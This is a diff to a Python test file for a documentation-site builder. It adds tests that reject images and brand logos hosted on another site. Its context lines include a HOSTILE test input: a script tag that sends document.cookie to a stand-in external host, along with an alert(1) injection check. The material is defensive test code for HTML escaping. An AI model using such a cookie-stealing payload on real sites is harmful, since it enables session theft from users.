@@ -7,6 +7,7 @@ from pathlib import Path
 
 import markdown
 import pytest
+from mkdocs.exceptions import Abort, PluginError
 
 from careercheck.format.loader import load_check
 from careercheck.html_safety import line_of, unsafe_html
@@ -15,6 +16,7 @@ from careercheck.site.build import build_site
 from careercheck.site.csp import hashes_allowed_by, script_hashes, with_policy
 from test_build import copy_project
 from test_loader import VALID
+from test_sites import _brand_config
 
 HOSTILE = {
     "script": "<script>fetch('https://elders.example/?' + document.cookie)</script>",
@@ -100,3 +102,20 @@ def test_titles_are_shown_as_text_wherever_the_theme_shows_them(tmp_path: Path) 
     for html in [*pages.values(), (site / "index.html").read_text()]:
         assert "<script>alert(1)" not in html and "<em>welzijn" not in html
         assert "&amp;amp;" not in html  # escaped once, not twice
+
+
+def test_a_picture_from_another_site_in_a_check_fails_with_file_and_line(tmp_path: Path) -> None:
+    path = tmp_path / "kapot.yml"
+    path.write_text(VALID.replace("label: Vraag twee.", "label: Twee, image: {src: 'https://elders.example/p.png', alt: Twee}"))
+    with pytest.raises(ProblemsFound) as found:
+        load_check(path)
+    assert str(found.value).startswith(f"{path}:25:") and "is on another site; put the file in docs/" in str(found.value)
+
+
+def test_a_brand_logo_from_another_site_does_not_build(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    config = _brand_config(tmp_path, '{primary: "#1b5e20", on_primary: "#ffffff"}')
+    config.write_text(config.read_text().replace("logo: img/logo.svg", "logo: https://elders.example/logo.svg"))
+    with pytest.raises((PluginError, Abort)) as failed:
+        build_site(config, tmp_path / "site")
+    assert "brand.logo 'https://elders.example/logo.svg' is on another site" in str(failed.value) + caplog.text
+    assert not (tmp_path / "site").exists()
